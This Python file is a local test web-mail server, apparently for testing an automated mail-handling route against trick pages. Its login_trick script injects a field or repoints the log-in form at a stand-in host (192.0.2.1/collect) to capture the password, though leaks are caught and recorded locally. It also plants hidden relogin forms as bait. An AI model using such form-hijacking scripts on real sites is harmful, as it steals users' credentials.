#!/usr/bin/env python3
"""A small web-mail site on 127.0.0.1 for the web-mail route's tests and the
demo.

Binds a free port (or --port) and prints "PORT <n>" once it accepts
connections. With --cert and --key it speaks https. Everything a test must
check is written, after every request, to the JSON file --state names.

The user is "bob" with the password "s3cret". The pages:
  /login      a form with a hidden token, fields "user" and "pass" and two
              submit buttons named "go" ("Classic", "Standard"); it sets a
              pre-log-in cookie, which the POST must bring back. A good
              log-in sets the session cookie and redirects to /home.
  /home       two links: "Mailbox (archive)" to /archive, "Mailbox" to /inbox
  /inbox      the message list in a form posting to /delete: a delete button
              named "del" above and below, one check box "sel" per message,
              one table row per message (tokens: see the demo section of
              host_data.dat), a "Sign out" link and a sign-out image
  /msg?id=    one message: its body between <div class="mailbody"> and </div>
  /delete     (POST) asks to confirm: link "Yes, delete" to /confirm
  /confirm    deletes what /delete was given, back to /inbox
  /logout     ends the session and drops the cookie
  /stall      never answers
  /big        a page of --big-kb kilobytes of message rows
  /manylinks  --big-kb times 50 short links, then one to /inbox ("Mailbox")
With --extra-checkbox the list holds one more check box named "sel" (a
"select all" box) than it holds messages.

Pages that change under the route (each change is made by the page's own
script, as a real site's would be):
  --login-trick note    typing the user name adds a field "note" after it
                        that belongs to a form posting to 192.0.2.1
  --login-trick action  typing the user name points the log-in form at
                        192.0.2.1
                        (whatever reaches such a field or form is reported
                        to /leak and recorded as "leaks"; nothing is sent
                        off this computer)
  --shifty-list         a1001's box is ticked when the list comes, and a
                        message whose box is unticked moves to the list's end
  --show-id ID=SHOWN    the list shows SHOWN (may be empty) as ID's
                        identifier; its check box keeps ID (repeatable)
  --session-host NAME   the site lives on NAME (e.g. localhost): a page asked
                        for under another host name is sent there, so the
                        session cookie is NAME's; /login of a signed-in
                        browser goes straight to /home
  --page-size N         the list shows its first N messages only
  --new-mail-at-login N from the N-th good log-in on, a new message (a1000)
                        stands at the list's top ("arrivals" counts it)
  --rerender            check boxes carry their row's place, not an
                        identifier; the list's pollMail() fetches the list
                        anew (POST /poll, which brings a1000 in) and rewrites
                        its rows after their check boxes, which stay
  --delete-expires      a delete POST finds its session expired: nothing is
                        deleted and the browser is sent to /login ("expired")
  --no-confirm          /delete deletes at once and sends the browser back to
                        /inbox, with no page to confirm on
  --messages N          the mailbox holds its first N messages only
  --delete-button NAME  the list's delete buttons are named NAME, not "del"
  --confirm-button      the page that asks to confirm has, besides its link, a
                        button named as the list's delete buttons
  --keep-session KIND   where the site keeps a signed-in session besides its
                        cookie: "local" (localStorage) or "idb" (IndexedDB),
                        where /home and /inbox put it and the log-in form,
                        when it is submitted, resumes a session it finds there
                        through /resume ("resumed") instead of signing in; or
                        "cache", where /home and /inbox may be kept by the
                        browser for ten minutes
  --refused-at URL      a refused log-in is sent to URL (as "/?_task=login"),
                        which shows the log-in form again
  --unnamed-buttons     the log-in form's submit buttons have no name
  --script-link         /home's "Mailbox" link (to /inbox) changes the page by
                        its script alone: nothing is loaded
  --hidden-relogin      /home and /inbox hold a log-in form they do not show:
                        a hidden input named "pass", and a form hidden by its
                        style with a password field "pass"
  --cut-log-in          a log-in (the form's POST) is recorded and answered by
                        closing the connection
  --picture URL         the log-in page shows a picture from URL
A second user "ann" (password "pw-ann") shares the mailbox; /inbox records
whose session viewed it ("inbox_users").
"""

import argparse
import html
import json
import os
import secrets
import signal
import socket
import ssl
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

USERS = {"bob": "s3cret", "ann": "pw-ann"}

MESSAGES = [
    # id, sender as the page writes it, subject, time or date, read
    ("a1001", "Alice Example &lt;alice@example.org", "Lunch on Friday", "09:41", False),
    ("a1002", "Weekly Bot", "Weekly report", "2024-03-11", True),
    ("a1003", "carol@example.net", "Weekly report", "14:05", False),
    ("a1004", "Dave &lt;dave@example.com&gt;", "Invoice &amp; receipt", "2024-03-09", True),
    ("a1005", "Erin", "Weekly report", "08:15", False),
]

# What comes in later (--new-mail-at-login, --rerender).
NEW_MESSAGE = ("a1000", "Frank &lt;frank@example.com", "Just in", "10:02", False)

BODIES = {
    "a1001": ["Hi Bob,", "&gt; Shall we meet at noon?", "Yes, <b>noon</b> is fine.", "Alice"],
    "a1002": ["Report of week 10.", "All <i>green</i>."],
    "a1003": ["Week 11 report from Carol.", "&gt; quoted from week 10", "Numbers are <b>up</b>."],
    "a1004": ["Your invoice is attached."],
    "a1005": ["Week 12 report from Erin."],
    "a1000": ["Fresh from the press."],
}

LOCK = threading.Lock()
STATE = {
    "logins": [], "visits": [], "delete_posts": [], "deleted": [], "viewed": [],
    "logouts": 0, "requests": [], "leaks": [], "inbox_users": [],
    "arrivals": 0, "expired": 0, "resumed": [],
}
SESSIONS = {}
LOGIN_TOKENS = set()
PENDING = {}
MAILBOX = [list(m) for m in MESSAGES]
GOOD_LOGINS = 0
ARGS = None


def save_state():
    tmp = ARGS.state + ".tmp"
    with open(tmp, "w") as f:
        json.dump(STATE, f)
    os.replace(tmp, ARGS.state)


def page(title, lines):
    return "\n".join(["<!DOCTYPE html>", "<html>", "<head><title>%s</title></head>" % title, "<body>"]
                     + lines + ["</body>", "</html>", ""])


def shown_ids():
    out = {}
    for pair in ARGS.show_id or []:
        k, v = pair.split("=", 1)
        out[k] = v
    return out


def arrive():
    if STATE["arrivals"]:
        return
    MAILBOX.insert(0, list(NEW_MESSAGE))
    STATE["arrivals"] += 1


def listed():
    return MAILBOX[:ARGS.page_size] if ARGS.page_size else MAILBOX


def row_cells(m):
    mid, sender, subject, when, read = m
    r = "r" if read else ""
    return [
        '<td class="%sid">%s</td>' % (r, shown_ids().get(mid, mid)),
        '<td class="%sfrom">%s</td>' % (r, sender),
        '<td><a href="/msg?id=%s" class="%ss">%s</a></td>' % (mid, r, subject),
        '<td class="%swhen">%s</td>' % (r, when),
    ]


def row_class(m):
    return "msg %s" % ("read" if m[4] else "unread")


def message_rows():
    rows = []
    for place, m in enumerate(listed(), 1):
        mid = m[0]
        value = str(place) if ARGS.rerender else mid
        ticked = " checked" if ARGS.shifty_list and mid == "a1001" else ""
        rows += ['<tr class="%s">' % row_class(m),
                 '<td><input type="checkbox" name="sel" value="%s"%s></td>' % (value, ticked)]
        rows += row_cells(m) + ["</tr>"]
    return rows


# The list fetched anew is written into the rows after their check boxes.
RERENDER = [
    "<script>",
    "function pollMail() {",
    "  var x = new XMLHttpRequest();",
    "  x.open('POST', '/poll', false);",
    "  x.send('');",
    "  var rows = JSON.parse(x.responseText), trs = document.querySelectorAll('tr.msg');",
    "  for (var i = 0; i < trs.length && i < rows.length; i++) {",
    "    var box = trs[i].cells[0];",
    "    while (box.nextSibling) trs[i].removeChild(box.nextSibling);",
    "    trs[i].className = rows[i].cls;",
    "    box.insertAdjacentHTML('afterend', rows[i].cells);",
    "  }",
    "}",
    "</script>",
]


def keep_session_script(sid):
    if ARGS.keep_session == "local":
        return ["<script>localStorage.setItem('sid', %s);</script>" % json.dumps(sid)]
    if ARGS.keep_session == "idb":
        return [
            "<script>",
            "(function () {",
            "  var rq = indexedDB.open('testmail', 1);",
            "  rq.onupgradeneeded = function () { rq.result.createObjectStore('kept'); };",
            "  rq.onsuccess = function () {",
            "    rq.result.transaction('kept', 'readwrite').objectStore('kept').put(%s, 'sid');" % json.dumps(sid),
            "  };",
            "})();",
            "</script>",
        ]
    return []


# The log-in form resumes a session kept in the browser instead of signing in.
def resume_script():
    if ARGS.keep_session not in ("local", "idb"):
        return []
    return [
        "<script>",
        "(function () {",
        "  var form = document.forms[0], passing = false;",
        "  function resume(sid) { location.replace('/resume?sid=' + encodeURIComponent(sid)); }",
        "  form.addEventListener('submit', function (e) {",
        "    if (passing) return;",
        "    if (%s === 'local') {" % json.dumps(ARGS.keep_session),
        "      var sid = localStorage.getItem('sid');",
        "      if (sid) { e.preventDefault(); resume(sid); }",
        "      return;",
        "    }",
        "    e.preventDefault();",
        "    var by = e.submitter;",
        "    function signIn() { passing = true; form.requestSubmit(by); }",
        "    var rq = indexedDB.open('testmail', 1);",
        "    rq.onupgradeneeded = function () { rq.result.createObjectStore('kept'); };",
        "    rq.onerror = signIn;",
        "    rq.onsuccess = function () {",
        "      var get = rq.result.transaction('kept').objectStore('kept').get('sid');",
        "      get.onsuccess = function () { if (get.result) resume(get.result); else signIn(); };",
        "      get.onerror = signIn;",
        "    };",
        "  });",
        "})();",
        "</script>",
    ]


# Unticking a box moves its message to the end of the list.
SHIFTY_LIST = [
    "<script>",
    "document.addEventListener('change', function (e) {",
    "  var t = e.target;",
    "  if (t.name !== 'sel' || t.checked) return;",
    "  var row = t.closest('tr');",
    "  row.parentNode.appendChild(row);",
    "});",
    "</script>",
]


# A form to sign in again that the mailbox page keeps out of sight.
HIDDEN_RELOGIN = [
    '<input type="hidden" name="pass" value="">',
    '<form method="post" action="/login" style="display:none">',
    '<input type="password" name="pass">',
    "</form>",
]


def picture():
    return ['<p><img src="%s" alt="logo"></p>' % html.escape(ARGS.picture)] if ARGS.picture else []


def login_trick():
    if not ARGS.login_trick:
        return []
    return [
        '<form id="elsewhere" method="post" action="http://192.0.2.1/collect"></form>',
        "<script>",
        "(function () {",
        "  var login = document.forms[0], changed = false;",
        "  function leak(v) { fetch('/leak?v=' + encodeURIComponent(v)); }",
        "  // Nothing leaves this computer: what would have gone is reported.",
        "  document.getElementById('elsewhere').addEventListener('submit', function (e) {",
        "    e.preventDefault(); leak('submitted');",
        "  });",
        "  login.addEventListener('submit', function (e) {",
        "    if (login.action.indexOf('192.0.2.1') < 0) return;",
        "    e.preventDefault(); leak(login.elements['pass'].value);",
        "  });",
        "  var user = login.elements['user'];",
        "  user.addEventListener('input', function () {",
        "    if (changed) return;",
        "    changed = true;",
        "    if (%s === 'note') {" % json.dumps(ARGS.login_trick),
        "      var note = document.createElement('input');",
        "      note.type = 'text'; note.name = 'note'; note.setAttribute('form', 'elsewhere');",
        "      note.addEventListener('input', function () { leak(note.value); });",
        "      user.parentNode.after(note);",
        "    } else {",
        "      login.setAttribute('action', 'http://192.0.2.1/collect');",
        "    }",
        "  });",
        "})();",
        "</script>",
    ]


class Handler(BaseHTTPRequestHandler):
    server_version = "TestMail/1.0"
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):
        pass

    def cookies(self):
        out = {}
        for part in self.headers.get("Cookie", "").split(";"):
            if "=" in part:
                k, v = part.strip().split("=", 1)
                out[k] = v
        return out

    def session(self):
        return self.cookies().get("sid") in SESSIONS

    def host_name(self):
        return self.headers.get("Host", "").rsplit(":", 1)[0]

    def send(self, code, body="", headers=(), kept=False, kind="text/html"):
        data = body.encode("utf-8")
        self.send_response(code)
        self.send_header("Content-Type", kind + "; charset=utf-8")
        self.send_header("Cache-Control", "private, max-age=600" if kept else "no-store")
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def redirect(self, to, headers=()):
        self.send(303, "", [("Location", to)] + list(headers))

    def record(self, path):
        STATE["visits"].append(path)
        STATE["requests"].append({"path": path, "cookie": self.headers.get("Cookie", "")})
        del STATE["requests"][:-50]

    def do_GET(self):
        url = urlsplit(self.path)
        q = {k: v[0] for k, v in parse_qs(url.query).items()}
        path = url.path
        if path == "/stall":
            # Holds the request until the server stops.
            time.sleep(3600)
            return
        if path == "/favicon.ico":
            return self.send(404, "")
        if ARGS.session_host and self.host_name() != ARGS.session_host:
            port = self.server.server_address[1]
            return self.redirect("http://%s:%d%s" % (ARGS.session_host, port, self.path))
        with LOCK:
            self.record(path)
            try:
                return self.get(path, q)
            finally:
                save_state()

    def get(self, path, q):
        if path == "/leak":
            STATE["leaks"].append(q.get("v", ""))
            return self.send(204, "")
        if path == "/resume":
            sid = q.get("sid", "")
            if sid not in SESSIONS:
                return self.redirect("/login")
            STATE["resumed"].append(SESSIONS[sid])
            return self.redirect("/home", [("Set-Cookie", "sid=%s; Path=/; HttpOnly" % sid)])
        if path == "/login" and ARGS.session_host and self.session():
            return self.redirect("/home")
        if path == "/login" or (ARGS.refused_at and path == urlsplit(ARGS.refused_at).path):
            token = secrets.token_hex(8)
            LOGIN_TOKENS.add(token)
            action = ARGS.login_action or "/login"
            button_name = "" if ARGS.unnamed_buttons else ' name="go"'
            return self.send(200, page("Sign in", [
                "<h1>TestMail</h1>",
                '<form method="post" action="%s">' % html.escape(action),
                '<input type="hidden" name="token" value="%s">' % token,
                '<p>User <input type="text" name="user"></p>',
                '<p>Password <input type="password" name="pass"></p>',
                '<input type="submit"%s value="Classic">' % button_name,
                '<input type="submit"%s value="Standard">' % button_name,
                "</form>",
            ] + picture() + login_trick() + resume_script()), [("Set-Cookie", "pre=1; Path=/")])
        if path == "/logout":
            sid = self.cookies().get("sid")
            SESSIONS.pop(sid, None)
            STATE["logouts"] += 1
            return self.send(200, page("Signed out", ["<p>You have signed out.</p>"]),
                             [("Set-Cookie", "sid=; Path=/; Max-Age=0")])
        if not self.session():
            return self.redirect("/login")
        sid = self.cookies().get("sid")
        kept = ARGS.keep_session == "cache"
        if path == "/home":
            return self.send(200, page("Home", [
                "<p>Welcome, %s.</p>" % SESSIONS[sid],
            ] + (HIDDEN_RELOGIN if ARGS.hidden_relogin else []) + [
                '<p><a href="/archive">Mailbox (archive)</a></p>',
                '<p><a href="/inbox"%s>Mailbox</a></p>' % (
                    " onclick=\"event.preventDefault(); document.body.innerHTML = '<p>Loading...</p>';\""
                    if ARGS.script_link else ""),
            ] + keep_session_script(sid)), kept=kept)
        if path == "/manylinks":
            # Each link is short in the HTML and long in a list of links,
            # which gives its address in full.
            return self.send(200, page("Links", ['<a href="?">M</a>'] * (ARGS.big_kb * 50)
                                       + ['<a href="/inbox">Mailbox</a>']))
        if path == "/archive":
            return self.send(200, page("Archive", ["<p>The archive is empty.</p>"]))
        if path in ("/inbox", "/big"):
            rows = message_rows()
            if path == "/big":
                filler = '<tr class="filler"><td>%s</td></tr>' % ("x" * 1000)
                rows = [filler] * ARGS.big_kb + rows
            extra = ['<p>All <input type="checkbox" name="sel" value="all"></p>'] if ARGS.extra_checkbox else []
            if path == "/inbox":
                STATE["inbox_users"].append(SESSIONS[sid])
            return self.send(200, page("Inbox", [
                "<h1>Inbox</h1>",
                '<form method="post" action="/delete">',
                '<p><input type="submit" name="%s" value="Delete"></p>' % ARGS.delete_button,
            ] + extra + [
                '<table class="list">',
                "<tbody>",
            ] + rows + [
                "</tbody>",
                "</table>",
                '<p><input type="submit" name="%s" value="Delete"></p>' % ARGS.delete_button,
                "</form>",
                '<p><a href="/logout">Sign out</a></p>',
                '<p><a href="/logout"><img src="/signout.png" alt="sign out"></a></p>',
            ] + (HIDDEN_RELOGIN if ARGS.hidden_relogin and path == "/inbox" else [])
                + (SHIFTY_LIST if ARGS.shifty_list else []) + (RERENDER if ARGS.rerender else [])
                + keep_session_script(sid)), kept=kept and path == "/inbox")
        if path == "/msg":
            mid = q.get("id", "")
            found = [m for m in MAILBOX if m[0] == mid]
            if not found:
                return self.send(404, page("Not found", ["<p>No such message.</p>"]))
            STATE["viewed"].append(mid)
            found[0][4] = True
            return self.send(200, page(found[0][2], [
                "<h1>%s</h1>" % found[0][2],
                '<div class="mailbody">',
            ] + BODIES.get(mid, []) + [
                "</div>",
                '<p><a href="/inbox">Back</a></p>',
            ]))
        if path == "/confirm":
            ids = PENDING.pop(q.get("t", ""), None)
            if ids is None:
                return self.send(400, page("Error", ["<p>Nothing to confirm.</p>"]))
            for mid in ids:
                MAILBOX[:] = [m for m in MAILBOX if m[0] != mid]
                STATE["deleted"].append(mid)
            return self.redirect("/inbox")
        return self.send(404, page("Not found", ["<p>Not found.</p>"]))

    def do_POST(self):
        length = int(self.headers.get("Content-Length", "0") or 0)
        form = parse_qs(self.rfile.read(length).decode("utf-8", "replace"), keep_blank_values=True)
        path = urlsplit(self.path).path
        with LOCK:
            self.record(path)
            try:
                return self.post(path, form)
            finally:
                save_state()

    def post(self, path, form):
        global GOOD_LOGINS
        one = lambda k: form.get(k, [""])[0]
        if path == "/login":
            token_ok = one("token") in LOGIN_TOKENS
            LOGIN_TOKENS.discard(one("token"))
            ok = (token_ok and one("user") in USERS and one("pass") == USERS[one("user")]
                  and self.cookies().get("pre") == "1")
            STATE["logins"].append({"user": one("user"), "button": form.get("go", []), "token_ok": token_ok,
                                    "pre_cookie": self.cookies().get("pre", ""), "ok": ok})
            if ARGS.cut_log_in:
                # The browser sends the form again on a new connection; that
                # one is cut too.
                self.close_connection = True
                try:
                    self.connection.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
                return None
            if not ok and ARGS.refused_at:
                return self.redirect(ARGS.refused_at)
            if not ok:
                return self.send(200, page("Sign in failed", ["<p>Wrong user name or password.</p>",
                                                              '<p><a href="/login">Try again</a></p>']))
            GOOD_LOGINS += 1
            if ARGS.new_mail_at_login and GOOD_LOGINS >= ARGS.new_mail_at_login:
                arrive()
            sid = secrets.token_hex(12)
            SESSIONS[sid] = one("user")
            return self.redirect("/home", [("Set-Cookie", "sid=%s; Path=/; HttpOnly" % sid)])
        if path == "/delete":
            if not self.session():
                return self.redirect("/login")
            selected = form.get("sel", [])
            if ARGS.rerender:
                # A box says a place in the list as it stands now.
                now = listed()
                selected = [now[int(v) - 1][0] if v.isdigit() and 1 <= int(v) <= len(now) else v
                            for v in selected]
            STATE["delete_posts"].append({"selected": selected,
                                          "buttons": len(form.get(ARGS.delete_button, []))})
            if ARGS.delete_expires:
                SESSIONS.pop(self.cookies().get("sid"), None)
                STATE["expired"] += 1
                return self.redirect("/login")
            if ARGS.no_confirm:
                for mid in [s for s in selected if s != "all"]:
                    MAILBOX[:] = [m for m in MAILBOX if m[0] != mid]
                    STATE["deleted"].append(mid)
                return self.redirect("/inbox")
            t = secrets.token_hex(8)
            PENDING[t] = [s for s in selected if s != "all"]
            return self.send(200, page("Confirm", [
                "<p>Delete %d message(s)?</p>" % len(PENDING[t]),
                '<p><a href="/confirm?t=%s">Yes, delete</a></p>' % t,
            ] + ([
                '<form method="get" action="/confirm">',
                '<input type="hidden" name="t" value="%s">' % t,
                '<input type="submit" name="%s" value="Yes">' % ARGS.delete_button,
                "</form>",
            ] if ARGS.confirm_button else []) + [
                '<p><a href="/inbox">No, keep them</a></p>',
            ]))
        if path == "/poll":
            if not self.session():
                return self.send(403, "[]", kind="application/json")
            arrive()
            return self.send(200, json.dumps([{"cls": row_class(m), "cells": "\n" + "\n".join(row_cells(m)) + "\n"}
                                              for m in listed()]), kind="application/json")
        return self.send(404, page("Not found", ["<p>Not found.</p>"]))


def main():
    global ARGS
    p = argparse.ArgumentParser()
    p.add_argument("--state", required=True)
    p.add_argument("--port", type=int, default=0)
    p.add_argument("--cert")
    p.add_argument("--key")
    p.add_argument("--extra-checkbox", action="store_true")
    p.add_argument("--login-action", default="")
    p.add_argument("--big-kb", type=int, default=0)
    p.add_argument("--login-trick", choices=["note", "action"])
    p.add_argument("--shifty-list", action="store_true")
    p.add_argument("--show-id", action="append")
    p.add_argument("--session-host", default="")
    p.add_argument("--page-size", type=int, default=0)
    p.add_argument("--new-mail-at-login", type=int, default=0)
    p.add_argument("--rerender", action="store_true")
    p.add_argument("--delete-expires", action="store_true")
    p.add_argument("--keep-session", choices=["local", "idb", "cache"])
    p.add_argument("--no-confirm", action="store_true")
    p.add_argument("--messages", type=int, default=0)
    p.add_argument("--delete-button", default="del")
    p.add_argument("--confirm-button", action="store_true")
    p.add_argument("--refused-at", default="")
    p.add_argument("--unnamed-buttons", action="store_true")
    p.add_argument("--script-link", action="store_true")
    p.add_argument("--hidden-relogin", action="store_true")
    p.add_argument("--cut-log-in", action="store_true")
    p.add_argument("--picture", default="")
    ARGS = p.parse_args()
    if ARGS.messages:
        del MAILBOX[ARGS.messages:]
    save_state()
    server = ThreadingHTTPServer(("127.0.0.1", ARGS.port), Handler)
    server.daemon_threads = True
    if ARGS.cert:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(ARGS.cert, ARGS.key)
        server.socket = ctx.wrap_socket(server.socket, server_side=True)
    signal.signal(signal.SIGTERM, lambda *a: os._exit(0))
    print("PORT %d" % server.server_address[1], flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
